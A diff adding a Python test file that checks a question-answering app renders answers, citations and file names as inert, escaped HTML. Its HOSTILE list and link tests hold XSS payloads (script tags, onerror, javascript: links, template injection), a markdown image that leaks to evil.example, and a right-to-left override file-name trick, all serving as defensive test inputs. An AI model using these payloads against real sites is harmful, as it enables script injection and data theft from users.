@@ -1,0 +1,206 @@
+"""Answers as HTML: foreign text stays text, markers become links, doubts and the short answer are marked."""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from qa.app.links import Reference, link, parse_link
+from qa.app.lists import documents_html, history_html, report_html
+from qa.app.render import answer_html, inert, question_html, streaming_html, visible
+from qa.types import Answer, Citation, Nearest, Record, Sentence, Span
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "![x](http://evil.example/leak?q=1)",
+    "${alert(1)} `${alert(1)}` {{value}}",
+    "[1](#cite/a.txt/0123456789abcdef/0-5)",
+    "[click](javascript:alert(1))",
+    "</div></p><h1>owned</h1>",
+    "# heading\n\n    code\n\n```js\nalert(1)\n```",
+    "http://evil.example www.evil.example a@evil.example",
+    "x" * 10_000,
+]
+
+
+class Shape(HTMLParser):
+    """The tags, the attributes and the text of some HTML."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[str] = []
+        self.attributes: list[tuple[str, str | None]] = []
+        self.text = ""
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.attributes += attrs
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def citation(number: int = 1, *, title: str = "Lamps", quote: str = "It was lit in 1901.", start: int = 0) -> Citation:
+    return Citation(
+        number=number, document="a b/lamps.txt", title=title, start=start, end=start + len(quote), page=None,
+        quote=quote, version="0123456789abcdef",
+    )  # fmt: skip
+
+
+def answered(text: str, *sentences: Sentence, citations: tuple[Citation, ...] = (), **rest: object) -> Answer:
+    given = {"question": "When?", "query": "When?", "text": text, "abstained": False, **rest}
+    return Answer(sentences=sentences, citations=citations, **given)  # type: ignore[arg-type]
+
+
+@given(st.text())
+def test_any_text_is_shown_as_itself_and_opens_no_tag(text: str) -> None:
+    shape = Shape(inert(text.replace("\r", " ")))
+    assert (shape.tags, shape.text) == ([], visible(text.replace("\r", " ")))
+
+
+@given(st.text())
+def test_inert_text_has_no_character_that_markdown_or_a_template_reads(text: str) -> None:
+    assert not set(inert(text)) & set("<>\"'`$*_[](){}!|\\~/=+:.@-")
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_a_hostile_answer_has_no_tags_but_ours(hostile: str) -> None:
+    sentence = Sentence(text=hostile, citations=(1,), support="partly", reason=hostile)
+    html = answer_html(
+        answered(f"{hostile} [1]", sentence, citations=(citation(title=hostile),), notes=(hostile,), query=hostile)
+    )
+    shape = Shape(html)
+    assert set(shape.tags) <= {"div", "p", "br", "a", "span"}
+    assert {name for name, _ in shape.attributes} <= {"class", "href", "title"}
+    assert [value for name, value in shape.attributes if name == "href"] == [link(_reference(citation())), "#why"]
+    assert "\n" not in html
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_a_hostile_question_document_or_file_name_is_text(hostile: str) -> None:
+    record = Record(
+        id=hostile, version="0123456789abcdef", title=hostile, root="/r", passages=1, chars=1, mirrored=True
+    )
+    for html in (question_html(hostile), documents_html([record]), report_html(done="", failed=[(hostile, hostile)])):
+        assert set(Shape(html).tags) <= {"div", "p", "br", "ul", "li", "a", "span", "button", "b"}
+        assert " on" not in html.replace(" only", "").split(">")[0]
+
+
+def test_a_marker_of_a_known_citation_is_a_link_and_any_other_is_text() -> None:
+    html = streaming_html("Lit in 1901 [1] and [2].", [citation()])
+    assert Shape(html).attributes == [
+        ("class", "answer"),
+        ("class", "cite"),
+        ("href", "#cite/a%20b%2Flamps.txt/0123456789abcdef/0-19"),
+        ("title", "Lamps"),
+    ]
+    assert Shape(html).text == "Lit in 1901 1 and [2]."
+
+
+def test_the_short_answer_is_bold_inside_its_sentence() -> None:
+    sentence = Sentence(
+        text="It was lit in 1901.", citations=(1,), support="supported", highlight=Span(start=14, end=18)
+    )
+    html = answer_html(answered("It was lit in 1901. [1]", sentence, citations=(citation(),)))
+    assert "lit in <strong>1901</strong>&#46; <a" in html
+
+
+@pytest.mark.parametrize(
+    ("support", "words"),
+    [("partly", "partly supported"), ("unsupported", "not supported"), ("contradicted", "contradicted")],
+)
+def test_a_sentence_in_doubt_is_marked_after_its_markers_with_the_reason(support: str, words: str) -> None:
+    sentence = Sentence(text="It was lit in 1903.", citations=(1,), support=support, reason="1903 is not in [1]")  # type: ignore[arg-type]
+    html = answer_html(answered("It was lit in 1903. [1] It shines.", sentence, citations=(citation(),)))
+    assert f'<span class="doubt {support}">' in html
+    assert html.index('class="cite"') < html.index('class="why')
+    assert ("title", "1903 is not in [1]") in Shape(html).attributes
+    assert words in Shape(html).text
+
+
+def test_a_marker_inside_a_sentence_is_a_link_and_one_that_the_document_wrote_is_text() -> None:
+    sentence = Sentence(text="Lit,[1] and 1901.", citations=(1, 2), support="partly", highlight=Span(start=12, end=16))
+    html = answer_html(answered("Lit,[1] and [2] 1901. [1]", sentence, citations=(citation(), citation(2))))
+    shape = Shape(html)
+    assert [value for name, value in shape.attributes if name == "class"].count("cite") == 2
+    assert shape.text.startswith("Lit,[1] and 2 1901. 1 partly supported")
+    assert "<strong>1901</strong>" in html
+
+
+def test_a_doubt_whose_sentence_cannot_be_placed_is_still_shown() -> None:
+    sentence = Sentence(text="Something else.", citations=(), support="unsupported", reason="nothing is cited")
+    assert ("title", "nothing is cited") in Shape(answer_html(answered("It was lit.", sentence))).attributes
+
+
+def test_a_blank_line_begins_a_paragraph() -> None:
+    first, second = (Sentence(text=text, citations=(), support="supported") for text in ("One.", "Two."))
+    html = answer_html(answered("One.\n\nTwo.", first, second))
+    assert "<p>One&#46;</p><p>Two&#46;</p>" in html
+
+
+def test_an_abstention_shows_the_nearest_passages_as_links() -> None:
+    nearest = Nearest(
+        document="a.txt", title="A", start=3, end=9, page=2, quote="words " * 60, version="0123456789abcdef"
+    )
+    answer = Answer(question="Why?", query="Why?", text="Not there.", abstained=True, nearest=(nearest,))
+    shape = Shape(answer_html(answer))
+    assert ("href", "#cite/a.txt/0123456789abcdef/3-9") in shape.attributes
+    assert "The nearest passages are:" in shape.text
+    assert "A, page 2" in shape.text
+    assert "words …" in shape.text
+
+
+def test_the_query_is_shown_when_it_is_not_the_question() -> None:
+    answer = Answer(question="And when?", query="When was it lit?", text="1901.", abstained=False)
+    assert "Searched for When was it lit?" in Shape(answer_html(answer)).text
+    assert "Searched" not in answer_html(answered("1901."))
+
+
+def test_a_broken_off_answer_says_so() -> None:
+    assert "broke off" in answer_html(answered("1901", incomplete=True))
+
+
+def test_direction_controls_are_spelt_out() -> None:
+    assert visible("cod\u202etxt.exe") == "cod‹U+202E›txt.exe"
+
+
+def test_no_conversation_and_no_document_say_what_to_do() -> None:
+    assert "will be listed here" in history_html([], current="")
+    assert "Add a file" in documents_html([])
+
+
+@given(
+    st.builds(
+        Reference,
+        document=st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=80),
+        version=st.from_regex(r"[0-9a-f]{16}", fullmatch=True),
+        start=st.integers(0, 500),
+        end=st.integers(500, 10**9),
+    )
+)
+def test_a_citation_link_says_its_reference_and_nothing_else(reference: Reference) -> None:
+    address = link(reference)
+    assert parse_link(address) == reference
+    assert not set(address) & set("\"'<>` \n")
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "", "#cite/", "#cite/a.txt/0123456789abcdef/9-3", "#cite/a.txt/xyz/0-3", "#cite/a.txt/0123456789abcdef/-1-3",
+        "javascript:alert(1)", "#cite/a.txt/0123456789abcdef/0-3#", "#cite/a/b.txt/0123456789abcdef/0-3",
+        "#cite/a.txt/0123456789abcdef/0-9999999999999",
+    ],
+)  # fmt: skip
+def test_any_other_address_is_no_citation_link(address: str) -> None:
+    assert parse_link(address) is None
+
+
+def _reference(source: Citation) -> Reference:
+    return Reference(document=source.document, version=source.version, start=source.start, end=source.end)
